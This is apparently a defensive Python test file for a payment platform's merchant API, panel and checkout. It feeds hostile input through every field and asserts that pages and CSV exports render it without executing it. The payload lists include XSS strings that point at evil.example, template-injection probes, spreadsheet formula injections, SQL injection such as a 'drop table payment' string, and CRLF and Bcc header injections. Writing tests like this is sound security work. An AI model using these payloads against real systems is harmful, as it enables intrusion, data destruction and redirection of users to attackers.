"""Nothing anybody can type is run: hostile strings through every input, read back on every page and export (S10).

The strings are written into every text field of the merchant API's creating operations and of every form of the
panel and the checkout, in turns, and then every page is read. A page may show a string; it may never obey it.
"""

import csv
import io
import json
import re
from collections.abc import Iterator
from itertools import cycle, product
from pathlib import Path
from typing import Any, Final

import pytest

from opentill.api.merchant.app import MerchantApi
from opentill.db import Database
from opentill.merchants.model import SCOPES
from tests.contract.api.client import Response, ask
from tests.security.test_headers import Reader
from tests.usecases.admin.house import READS, House, open_house
from tests.usecases.checkout.shop import Browser

PRODUCT: Final = "1779547"  # of 1337 and 1331: a template or a formula that was run
MARK: Final = "wounded"  # the name of every header, element and attribute that must never come to be
BREAKING_OUT: Final = (
    "", '"', "'", "'\">", "</textarea>", "</title>", "</script>", "-->", "]]>", "`",
    "</td></tr>", "</a>", "{{\"", "\\",
)  # fmt: skip
ATTACKS: Final = (
    f"<script>{MARK}(1)</script>",
    f"<img src=x onerror={MARK}(1)>",
    f"<svg/onload={MARK}(1)>",
    f"<svg><a xlink:href=javascript:{MARK}(1)><text>x</text></a></svg>",
    f"<iframe srcdoc='<p {MARK}>'></iframe>",
    f"<base href=//evil.example/{MARK}>",
    f"<style>*{{background:url(//evil.example/{MARK})}}</style>",
    f"<form action=//evil.example/{MARK}><input name=password>",
    f"<meta http-equiv=refresh content=0;url=//evil.example/{MARK}>",
    f" onmouseover={MARK}(1) x=",
    f"<object data=//evil.example/{MARK}></object>",
    f"<a href=javascript:{MARK}(1)>click</a>",
    f"<input autofocus onfocus={MARK}(1)>",
    f"<math><mtext><style><img src=x onerror={MARK}(1)>",
    f"\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}{MARK}(1)",
)
EVALUATED: Final = (
    "{{1337*1331}}",
    "{%print(1337*1331)%}",
    "${1337*1331}",
    "#{1337*1331}",
    "<%=1337*1331%>",
    "=1337*1331",
)
FORMULAS: Final = ("=", "+", "-", "@", "\t=", "\r=", "|", "%")
QUERIES: Final = (
    "' or 1=1 --",
    "'; drop table payment; --",
    '" or ""="',
    "1) union select 1 --",
    "%' or '%'='",
    "\\'; --",
)
HEADERS: Final = (
    f"\r\n{MARK}: 1",
    f"%0d%0a{MARK}: 1",
    f"\n{MARK}: 1\n\nbody",
    f"a@b.example\nBcc: {MARK}@evil.example",
)
STRINGS: Final = tuple(
    dict.fromkeys(
        [
            *(before + attack for before, attack in product(BREAKING_OUT, ATTACKS)),
            *(before + text for before, text in product(("", '"', "'", "</p>"), EVALUATED)),
            *(
                sign + rest
                for sign, rest in product(FORMULAS, (f"cmd|' /C {MARK}'!A0", f'HYPERLINK("//evil.example/{MARK}")'))
            ),
            *(before + text for before, text in product(("", "Ana ", "1"), QUERIES)),
            *HEADERS,
        ]
    )
)
API_INPUTS: Final[dict[str, dict[str, Any]]] = {
    "/payments": {
        "amount": "9.90", "currency": "BRL", "reference": "", "description": "", "customer_name": "",
        "metadata": {"note": ""},
    },
    "/customers": {"name": "", "metadata": {"note": ""}},
    "/payment-links": {"title": "", "description": "", "amount": "5.00", "currency": "BRL"},
    "/invoices": {
        "customer": {"name": "", "email": "ana@example.com"}, "currency": "BRL", "notes": "",
        "items": [{"description": "", "quantity": 1, "unit_price": "5.00"}],
    },
    "/webhooks": {"url": "https://shop.example/hook", "description": ""},
}  # fmt: skip


def test_there_are_strings_enough() -> None:
    assert len(STRINGS) >= 200


@pytest.mark.bar("S10", gate={"rounds": 8, "strings": len(STRINGS)}, target={"rounds": 40, "strings": len(STRINGS)},
                 quick={"rounds": 2, "strings": len(STRINGS)})  # fmt: skip
async def test_nothing_anybody_can_type_is_run(database: Database, tmp_path: Path, bar_size: dict[str, int]) -> None:
    house = await open_house(database, tmp_path)
    browser = await house.browser()
    strings = cycle(STRINGS)

    written = await through_the_api(house, strings, bar_size["rounds"])
    written += await through_forms(house, browser, strings)
    assert written >= len(STRINGS)

    await read_every_page(house, browser)
    assert [row["status"] for row in await database.read(lambda tx: tx.all("select status from merchant"))] != []


async def through_the_api(house: House, strings: Iterator[str], rounds: int) -> int:
    """Create everything the merchant API creates, until each string was in some field; return how many were sent."""
    shop = house.shop
    api = MerchantApi(shop.deps)
    key = await shop.db.write(lambda tx: shop.scene.api_key(tx, shop.merchant, scopes=SCOPES))
    sent = [0]

    def filled(value: Any) -> Any:
        match value:
            case "":
                sent[0] += 1
                return next(strings)
            case dict():
                return {name: filled(inner) for name, inner in value.items()}
            case list():
                return [filled(inner) for inner in value]
        return value

    done = 0
    while sent[0] < len(STRINGS) or done < rounds:
        done += 1
        for path, fields in API_INPUTS.items():
            answer = await ask(
                api,
                "POST",
                path,
                headers={"authorization": f"Bearer {key.reveal()}", "content-type": "application/json"},
                body=json.dumps(filled(fields)).encode(),
            )
            unharmed(path, answer)
    for path in API_INPUTS:
        unharmed(path, await ask(api, "GET", path, headers={"authorization": f"Bearer {key.reveal()}"}))
    return sent[0]


def unharmed(path: str, answer: Response) -> None:
    """An answer of the API is JSON, whatever it repeats; a field is refused with a sentence or taken."""
    assert answer.status < 500, (path, answer.body)
    assert answer.headers["content-type"].startswith("application/json"), path
    assert MARK not in answer.headers, path


async def through_forms(house: House, browser: Browser, strings: Iterator[str]) -> int:
    """Fill every text field of every form of the panel, as the owner, and send it; return how many were filled."""
    sent = 0
    for screen in READS:
        page = await browser.client.get(house.place(screen), follow_redirects=True)
        if not page.headers["content-type"].startswith("text/html"):
            continue
        browser.page = page
        for form in browser.forms:
            if "sign-out" in form.action or "/end" in form.action or "/account" in form.action:
                continue
            hidden = {name: value for name, value in form.fields.items() if name.startswith("form_")}
            texts = [name for name in form.fields if name not in hidden]
            sent += len(texts)
            button = {form.buttons[0][0]: form.buttons[0][1]} if form.buttons and form.buttons[0][0] else {}
            data = hidden | {name: next(strings) for name in texts} | button
            answer = await browser.client.post(form.action, data=data)
            assert answer.status_code < 500, (form.action, answer.status_code)
            harmless(form.action, answer)
    return sent


async def read_every_page(house: House, browser: Browser) -> None:
    """Read every screen, every payment, every public page, and every export."""
    rows = await house.shop.db.read(lambda tx: tx.all("select reference, token from payment"))
    slugs = await house.shop.db.read(lambda tx: tx.all("select slug from payment_link"))
    tokens = await house.shop.db.read(lambda tx: tx.all("select uuid, token from invoice"))
    merchant = await house.shop.db.read(lambda tx: tx.all("select slug from merchant order by id limit 1"))
    house.names["merchant"] = merchant[0]["slug"]
    places = [house.place(screen) for screen in READS]
    places += [f"{house.home}/payments/{row['reference']}" for row in rows]
    places += [f"/checkout/{row['token']}" for row in rows] + [f"/pay/{row['slug']}" for row in slugs]
    places += [f"/invoice/{row['token']}" for row in tokens] + [
        f"{house.home}/invoices/{row['uuid']}" for row in tokens
    ]
    places += [f"{house.home}/search?q={text}" for text in ("%3Cscript%3E" + MARK, "{{1337*1331}}", "%0d%0a" + MARK)]
    for place in places:
        answer = await browser.client.get(place, follow_redirects=True)
        assert answer.status_code < 500, place
        if answer.headers["content-type"].startswith("text/csv"):
            no_formula(place, answer.text)
        else:
            harmless(place, answer)


def harmless(place: str, answer: Any) -> None:
    """A page has no element, attribute, header or sum that one of the strings asked for."""
    reader = Reader()
    reader.feed(answer.text)
    assert reader.wrong == [], place
    assert PRODUCT not in answer.text, place
    assert MARK not in answer.headers, place


def no_formula(place: str, text: str) -> None:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "|")), (place, row)
            assert not cell.startswith("-") or re.fullmatch(r"-\d+(\.\d+)?", cell), (place, row)
